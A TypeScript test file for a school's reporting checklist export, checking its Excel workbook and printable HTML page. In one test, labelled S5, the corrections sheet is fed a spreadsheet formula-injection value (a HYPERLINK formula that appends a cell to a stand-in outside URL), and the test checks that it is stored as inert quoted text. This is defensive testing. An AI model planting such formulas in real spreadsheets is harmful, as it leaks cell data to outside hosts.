import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { checklistWorkbook } from './national-package';
import { CORRECTIONS_HEADER, CORRECTIONS_SHEET, correctionRows } from './corrections-sheet';
import { CHECKLIST_HEADER, CHECKLIST_SHEET, checklistHtml, checklistLines } from './report-checklist';
import { packageFixture } from './testing/package-fixture';

const input = packageFixture((code) => (code === 'A8-9' || code === 'A1-6' ? 0 : 4));

describe('上报核对单', () => {
  const lines = checklistLines(input.tables, input.context);
  it('lists every table with rows, department, approver and hash', () => {
    expect(lines).toHaveLength(input.tables.length);
    const a101 = lines.find((l) => l.code === 'A10-1');
    expect(a101).toMatchObject({ rows: 4, approvers: '赵督导', note: '' });
    expect(a101?.departments).not.toBe('');
    expect(a101?.hash).toMatch(/^[0-9a-f]{64}$/);
  });

  it('gives the reason of an empty table, or says none was given, and marks undefined tables', () => {
    expect(lines.find((l) => l.code === 'A8-9')?.note).toBe('本年度无数据：本学年未开展此项工作');
    expect(lines.find((l) => l.code === 'A1-6')?.note).toBe('本年度无数据（未填写说明）');
    expect(lines.find((l) => l.code === 'A12')?.note).toBe('表结构待定义，不上报');
  });

  it('is a workbook and a printable page with the lock it was read from', async () => {
    const wb = XLSX.read(await checklistWorkbook(input), { type: 'array' });
    const ws = wb.Sheets[CHECKLIST_SHEET] as XLSX.WorkSheet;
    const grid = XLSX.utils.sheet_to_json<string[]>(ws, { header: 1, defval: '' });
    const headerAt = grid.findIndex((r) => r[0] === '序号');
    expect(grid[headerAt]).toEqual(CHECKLIST_HEADER);
    expect(grid[headerAt + 1]?.[1]).toBe(input.tables[0]?.table.code);
    expect(grid.flat().join('')).toContain(input.context.lock.hash);
    const html = checklistHtml(input.tables, input.context);
    expect(html).toContain('@page{size:A4 landscape');
    expect(html).toContain(input.context.lock.hash);
    expect(html).not.toMatch(/<script|src=/i);
  });

  it('sets every cell of a listed table in the middle of its row, the 序号 and 行数 beside a wrapped hash too', async () => {
    const zip = unzipSync(await checklistWorkbook(input));
    const styles = strFromU8(zip['xl/styles.xml']!);
    const xfs = [
      ...(/<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '').matchAll(
        /<xf [^>]*?(?:\/>|>[\s\S]*?<\/xf>)/g,
      ),
    ].map((m) => m[0]);
    const sheet = strFromU8(zip['xl/worksheets/sheet1.xml']!);
    const rows = [...sheet.matchAll(/<row r="(\d+)"[^>]*>([\s\S]*?)<\/row>/g)];
    const headerAt = rows.findIndex((r) => r[2]!.includes('序号')) + 1;
    const items = rows.slice(headerAt, headerAt + input.tables.length);
    expect(items).toHaveLength(input.tables.length);
    for (const [, r, cells] of items) {
      const styleIds = [...cells!.matchAll(/<c [^>]*?s="(\d+)"/g)].map((m) => Number(m[1]));
      expect(styleIds.length, `row ${r}`).toBeGreaterThanOrEqual(7);
      for (const id of styleIds) expect(xfs[id], `row ${r}`).toContain('vertical="center"');
    }
  });

  it('escapes names in the printable page', () => {
    const t = input.tables[0]!;
    const html = checklistHtml([{ ...t, table: { ...t.table, name: '<b>表</b>' } }], input.context);
    expect(html).toContain('&lt;b&gt;表&lt;/b&gt;');
  });

  it('says when the lock recorded no 校级更正, and adds no sheet for them', async () => {
    const wb = XLSX.read(await checklistWorkbook(input), { type: 'array' });
    expect(wb.SheetNames).toEqual([CHECKLIST_SHEET]);
    const grid = XLSX.utils.sheet_to_json<string[]>(wb.Sheets[CHECKLIST_SHEET] as XLSX.WorkSheet, {
      header: 1,
      defval: '',
    });
    expect(grid.flat().join('')).toContain('校级更正：无');
  });
});

describe('上报核对单 with the 校级更正 the lock recorded', () => {
  const a101 = input.tables.find((t) => t.table.code === 'A10-1')!;
  const slice = a101.slices[0]!;
  const row = slice.rows[2]!;
  const field = a101.table.fields[1]!;
  const corrected = {
    ...input,
    context: {
      ...input.context,
      corrections: [
        {
          tableCode: 'A10-1',
          departmentCode: slice.departmentCode,
          rowId: row.id,
          field: field.key,
          oldValue: '张三',
          newValue: '<张三丰>',
          by: '吴督导',
          at: '2026-10-15T08:00:00.000Z',
          reason: '与人事档案核对',
        },
        {
          tableCode: 'A10-1',
          departmentCode: slice.departmentCode,
          rowId: null,
          field: 'gone',
          oldValue: 3,
          newValue: null,
          by: '郑校长',
          at: '2026-10-16T08:00:00.000Z',
          reason: '重复',
        },
      ],
    },
  };

  it('names each corrected cell by row number and field label, old → new, who, when and why', () => {
    const rows = correctionRows(corrected.tables, corrected.context);
    expect(rows[0]).toMatchObject({
      table: 'A10-1',
      department: input.context.departmentNames[slice.departmentCode],
      row: '第 3 行',
      field: field.label,
      oldValue: '张三',
      newValue: '<张三丰>',
      by: '吴督导',
      reason: '与人事档案核对',
    });
    expect(rows[1]).toMatchObject({ row: '—', field: 'gone', oldValue: '3', newValue: '（空）' });
  });

  it("S5: a department's formula-like value on the corrections sheet is a quote-prefixed text cell, unchanged", async () => {
    const [first] = corrected.context.corrections;
    const hostile = {
      ...corrected,
      context: {
        ...corrected.context,
        corrections: [
          { ...first!, oldValue: '=HYPERLINK("http://x.example/?"&A1,"查看")', newValue: '@SUM(1)' },
        ],
      },
    };
    const zip = unzipSync(await checklistWorkbook(hostile));
    const styles = strFromU8(zip['xl/styles.xml']!);
    const xfs = [...styles.slice(styles.indexOf('<cellXfs')).matchAll(/<xf [^>]*>/g)].map((m) => m[0]);
    const sheet = Object.keys(zip)
      .filter((n) => n.startsWith('xl/worksheets/'))
      .map((n) => strFromU8(zip[n]!))
      .find((x) => x.includes('@SUM(1)'));
    expect(sheet).toBeDefined();
    expect(sheet).not.toContain('<f>');
    for (const text of ['=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;查看&quot;)', '@SUM(1)']) {
      const style = new RegExp(
        `s="(\\d+)" t="inlineStr"><is><t[^>]*>${text.replace(/[()?.]/g, '\\$&')}</t>`,
      ).exec(sheet!);
      expect(style, text).not.toBeNull();
      expect(xfs[Number(style![1])]).toContain('quotePrefix="1"');
    }
  });

  it('writes them as a sheet of the workbook and a table of the printable page, escaped', async () => {
    const wb = XLSX.read(await checklistWorkbook(corrected), { type: 'array' });
    expect(wb.SheetNames).toEqual([CHECKLIST_SHEET, CORRECTIONS_SHEET]);
    const grid = XLSX.utils.sheet_to_json<string[]>(wb.Sheets[CORRECTIONS_SHEET] as XLSX.WorkSheet, {
      header: 1,
      defval: '',
    });
    const headerAt = grid.findIndex((r) => r[0] === '序号');
    expect(grid[headerAt]).toEqual(CORRECTIONS_HEADER);
    expect(grid[headerAt + 1]?.slice(1, 7)).toEqual([
      'A10-1',
      input.context.departmentNames[slice.departmentCode],
      '第 3 行',
      field.label,
      '张三',
      '<张三丰>',
    ]);
    const head = XLSX.utils.sheet_to_json<string[]>(wb.Sheets[CHECKLIST_SHEET] as XLSX.WorkSheet, {
      header: 1,
      defval: '',
    });
    expect(head.flat().join('')).toContain('校级更正：共 2 处');
    const html = checklistHtml(corrected.tables, corrected.context);
    expect(html).toContain(`<h2>${CORRECTIONS_SHEET}</h2>`);
    expect(html).toContain('&lt;张三丰&gt;');
    expect(html).not.toContain('<张三丰>');
  });
});
